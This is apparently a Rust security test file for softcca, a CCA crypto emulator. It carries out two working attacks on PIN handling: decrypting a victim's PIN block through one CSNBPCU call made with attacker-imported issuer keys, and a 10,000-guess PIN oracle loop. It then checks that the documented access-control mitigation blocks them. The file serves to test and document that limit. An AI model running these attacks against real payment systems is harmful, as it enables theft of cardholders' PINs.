//! The limit of the single shared role (docs/security.md, docs/CSNBPCU.md "Through keys of
//! known value"): while every caller shares one `acp.conf`, a caller that may call CSNBPCU may
//! also import keys of values it knows with CSNBKPI, and CSNBPCU's inputs are the caller's to
//! choose. Both attacks below run with the shipped defaults (X'00BC' off) and must keep
//! working until roles exist, so this file shows the limit is real; each is then run with the
//! documented mitigation (the key-part points X'001B', X'0278', X'001C', X'0279' off in the
//! application's `acp.conf`) and must be stopped at its first import.
//!
//! * one CSNBPCU call on the victim's block under the production IPINENC key, with issuer
//!   master keys of the caller's own, gives a message the caller decrypts offline;
//! * an IPINENC key of the caller's own makes CSNBPCU a PIN-guessing oracle without CSNBCPE.
//!
//! The victims' PINs come from tests/data/pinblocks.txt (psec, pyemv); the attacker's offline
//! decryption uses softcca's derivation code as its tool, the expected PIN does not.
//! (Found by the security review of the hardening round.)
mod common;
use common::key_slots::{Kind, import, kpi};
use common::pcu_call::{profile, visapcu1};
use common::verbs::{TEST_MK, setup, token};
use common::*;

use des::cipher::{Array, BlockCipherEncrypt, KeyInit};
use softcca::crypto::{ClearKey, Tdes};
use softcca::cv::{ControlVector, templates};
use softcca::derive::{self, KeyGenerationData, Parity};

const KGD: &str = "3456789012345601FFFF";
const KEY_PART_POINTS: [u16; 4] = [0x001B, 0x0278, 0x001C, 0x0279];

fn pcu(
    auth: [u8; 64],
    enc: [u8; 64],
    pin_key: [u8; 64],
    block: [u8; 8],
    prof: &[u8; 24],
    pan: &[u8; 12],
) -> Result<String, (i32, i32)> {
    visapcu1(auth, enc, pin_key, block, prof, pan, hex(KGD))
}

/// ISO-0 clear block for `pin` and 12 PAN digits.
fn iso0(pin: &str, pan: &[u8; 12]) -> [u8; 8] {
    let mut nib = vec![0u8, pin.len() as u8];
    nib.extend(pin.bytes().map(|b| b - b'0'));
    while nib.len() < 16 {
        nib.push(0xF);
    }
    let mut p = vec![0u8; 4];
    p.extend(pan.iter().map(|b| b - b'0'));
    let mut out = [0u8; 8];
    for i in 0..8 {
        out[i] = ((nib[2 * i] ^ p[2 * i]) << 4) | (nib[2 * i + 1] ^ p[2 * i + 1]);
    }
    out
}

/// The mitigation: with the key-part points off, the attacker's first import is refused.
fn mitigation_stops_the_import(home: &std::path::Path) {
    for p in KEY_PART_POINTS {
        set_acp(home, p, false);
    }
    for kind in [Kind::DMac, Kind::DMPin, Kind::IpinEnc] {
        let mut t = kind.skeleton();
        let before = t;
        assert_eq!(
            kpi("FIRST", &kind.clear(), &mut t),
            (8, 90),
            "{kind:?} FIRST"
        );
        assert_eq!(t, before, "nothing written");
    }
    for p in KEY_PART_POINTS {
        set_acp(home, p, true);
    }
}

fn victim(id: &str) -> (common::Case, [u8; 64]) {
    let v = cases("pinblocks.txt")
        .into_iter()
        .find(|c| c.id() == id)
        .unwrap();
    let key = token(
        TEST_MK,
        &v.hex("pin_key"),
        &ControlVector::from_template(templates::IPINENC, true),
    );
    (v, key)
}

#[test]
fn one_pcu_call_with_own_issuer_keys_decrypts_a_pin_block() {
    let _g = setup("shared-role-decrypt");
    load_mk(&hex(TEST_MK));
    let home = std::path::PathBuf::from(std::env::var_os("SOFTCCA_HOME").unwrap());
    for id in ["iso-0-0", "iso-3-0"] {
        let (v, victim_key) = victim(id);
        let prof = profile(v.text("format_ascii"), None);
        let pan: [u8; 12] = arr(v.text("pan_ascii").as_bytes());
        let (auth, enc) = (import(Kind::DMac), import(Kind::DMPin));
        let msg =
            hex(&pcu(auth, enc, victim_key, arr(&v.hex("enc_block")), &prof, &pan).expect("PCU"));
        // Offline, with the attacker's own issuer keys.
        let mac_mdk = Tdes::new(&ClearKey::from_slice(&Kind::DMac.clear()).unwrap());
        let enc_mdk = Tdes::new(&ClearKey::from_slice(&Kind::DMPin.clear()).unwrap());
        let kgd = KeyGenerationData::parse(&hex(KGD)).unwrap();
        let (a, ik) = derive::auth_code_and_card_key(&mac_mdk, &enc_mdk, kgd.d(), Parity::Adjusted);
        let sk = Tdes::new(&derive::session_key_xor(&ik, kgd.atc));
        let m0 = sk.decrypt(&arr(&msg[..8]));
        let m1 = sk.decrypt(&arr(&msg[8..16]));
        let mut pb = [0u8; 8];
        pb[..7].copy_from_slice(&m0[1..8]);
        pb[7] = m1[0];
        for i in 0..4 {
            pb[4 + i] ^= a[i];
        }
        let nib: Vec<u8> = pb.iter().flat_map(|b| [b >> 4, b & 15]).collect();
        let l = nib[1] as usize;
        let pin: String = nib[2..2 + l].iter().map(|d| char::from(b'0' + d)).collect();
        assert_eq!(pin, v.text("pin_ascii"), "{id}: the shared-role limit");
    }
    mitigation_stops_the_import(&home);
}

#[test]
fn own_ipinenc_key_makes_pcu_a_guessing_oracle() {
    let _g = setup("shared-role-oracle");
    load_mk(&hex(TEST_MK));
    let home = std::path::PathBuf::from(std::env::var_os("SOFTCCA_HOME").unwrap());
    let (v, victim_key) = victim("iso-0-0");
    let victim_block: [u8; 8] = arr(&v.hex("enc_block"));
    let prof = profile("ISO-0", None);
    let pan: [u8; 12] = arr(v.text("pan_ascii").as_bytes());
    let auth = import(Kind::DMac);
    let enc = import(Kind::DMPin);
    let own_ipinenc = import(Kind::IpinEnc);
    let tdes = des::TdesEde2::new_from_slice(&Kind::IpinEnc.clear()).unwrap();
    let target =
        pcu(auth, enc, victim_key, victim_block, &prof, &pan).expect("PCU on the victim's block");
    let mut found = None;
    for g in 0..10_000 {
        let guess = format!("{g:04}");
        let mut b = Array::from(iso0(&guess, &pan));
        tdes.encrypt_block(&mut b);
        if pcu(auth, enc, own_ipinenc, b.into(), &prof, &pan).expect("PCU on a guess") == target {
            found = Some(guess);
            break;
        }
    }
    assert_eq!(
        found.as_deref(),
        Some(v.text("pin_ascii")),
        "the shared-role limit"
    );
    mitigation_stops_the_import(&home);
}
